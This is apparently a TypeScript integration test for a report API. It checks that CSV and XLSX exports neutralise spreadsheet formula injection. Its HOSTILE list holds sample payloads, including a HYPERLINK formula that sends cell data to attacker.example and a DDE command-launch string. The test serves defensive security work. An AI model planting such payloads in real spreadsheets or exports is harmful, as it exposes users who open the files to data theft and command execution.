// A monthly report whose plan texts are formulas (a target written to the store by some other way
// than the checked import): the API's CSV and XLSX carry them as text. Read back with exceljs and
// with LibreOffice (formulas evaluated on CSV import): no cell is a formula, and a control file
// shows that LibreOffice would have run an unneutralised one.
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { XLSX_HEADER_ROW } from '../../indicators/report/xlsx.ts';
import { createLogger } from '../../lib/logger.ts';
import { TOKENS } from './fixtures/ioc-seed.ts';
import { type SeededIocApi, startSeededIocApi } from './ioc-app.ts';

const HOSTILE = ['=HYPERLINK("http://attacker.example/?d="&B5,"Xem")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1)', '\t=1+1', '\r=1+1'];
const log = createLogger('warn');
let api: SeededIocApi | undefined;

beforeAll(async () => {
  api = await startSeededIocApi(log);
  const targets = HOSTILE.map((plan) => ({ plan, indicator: 'work_records_online', scope_unit: 'X0102', scope_level: '', year: 2025, comparator: '>=', value: 90 }));
  await api.store.client.insert({ table: `${api.store.db}.targets`, format: 'JSONEachRow', values: targets });
});
afterAll(async () => {
  await api?.stop();
});

const get = async (url: string) => {
  if (!api) throw new Error('no API');
  const r = await api.app.inject({ method: 'GET', url, headers: { authorization: `Bearer ${TOKENS.admin}` } });
  expect(r.statusCode).toBe(200);
  return r;
};

/** Every cell of every worksheet: [address, type, value]; formulas have a `formula` in their value. */
async function cells(xlsx: Buffer): Promise<{ address: string; value: unknown; formula: boolean }[]> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(xlsx as unknown as ArrayBuffer);
  const out: { address: string; value: unknown; formula: boolean }[] = [];
  for (const ws of wb.worksheets) {
    ws.eachRow((row) => {
      row.eachCell((c) => {
        out.push({ address: c.address, value: c.value, formula: c.type === ExcelJS.ValueType.Formula || (typeof c.value === 'object' && c.value !== null && 'formula' in c.value) });
      });
    });
  }
  return out;
}

function soffice(dir: string, args: string[]): void {
  execFileSync('soffice', [`-env:UserInstallation=file://${dir}/profile`, '--headless', ...args, '--outdir', join(dir, 'out')], { stdio: 'pipe', timeout: 180_000 });
}

describe('a monthly report with hostile plan texts', () => {
  it('is data in CSV and XLSX, as exceljs and LibreOffice read it', async () => {
    const csv = (await get('/api/v1/reports/monthly?unit=X0102&month=2025-02&format=csv')).body;
    const rows = parse(csv.replace(/^\uFEFF/, '')) as string[][];
    const plans = rows.slice(1).map((r) => r[3]);
    for (const p of HOSTILE) expect(plans).toContain(`'${p}`);

    const xlsx = (await get('/api/v1/reports/monthly?unit=X0102&month=2025-02')).rawPayload;
    const all = await cells(xlsx);
    expect(all.filter((c) => c.formula)).toEqual([]);
    const planCells = all.filter((c) => /^C\d+$/.test(c.address) && Number(c.address.slice(1)) > XLSX_HEADER_ROW).map((c) => c.value);
    // XML turns a carriage return into a line feed: the text is otherwise as written.
    const inXml = (p: string) => p.replaceAll('\r', '\n');
    for (const p of HOSTILE) expect(planCells).toContain(inXml(p));

    const dir = mkdtempSync(join(tmpdir(), 'chiso-lo-'));
    writeFileSync(join(dir, 'report.xlsx'), xlsx);
    writeFileSync(join(dir, 'report.csv'), csv);
    writeFileSync(join(dir, 'control.csv'), 'a,b\n=1+1,-2+3\n');
    // XLSX -> CSV: a formula cell would be written as its result ("Xem", 1, 2), text as itself.
    soffice(dir, ['--convert-to', 'csv:Text - txt - csv (StarCalc):44,34,76,1', join(dir, 'report.xlsx')]);
    const fromXlsx = parse(readFileSync(join(dir, 'out', 'report.csv'), 'utf8'), { relax_column_count: true }) as string[][];
    const loPlans = fromXlsx.map((r) => r[2]);
    for (const p of HOSTILE) expect(loPlans).toContain(inXml(p));
    // CSV -> XLSX with formulas evaluated on import: the neutralised cells stay text.
    soffice(dir, ['--infilter=CSV:44,34,76,1,,1033,false,false,false,false,false,,true', '--convert-to', 'xlsx', join(dir, 'report.csv'), join(dir, 'control.csv')]);
    const control = await cells(readFileSync(join(dir, 'out', 'control.xlsx')));
    expect(control.filter((c) => c.formula).map((c) => c.address)).toContain('A2'); // LibreOffice runs an unneutralised one
    const fromCsv = await cells(readFileSync(join(dir, 'out', 'report.xlsx')));
    expect(fromCsv.filter((c) => c.formula)).toEqual([]);
    const csvPlans = fromCsv.filter((c) => c.address.startsWith('D')).map((c) => c.value);
    for (const p of HOSTILE) expect(csvPlans).toContain(`'${inXml(p)}`);
  });
});
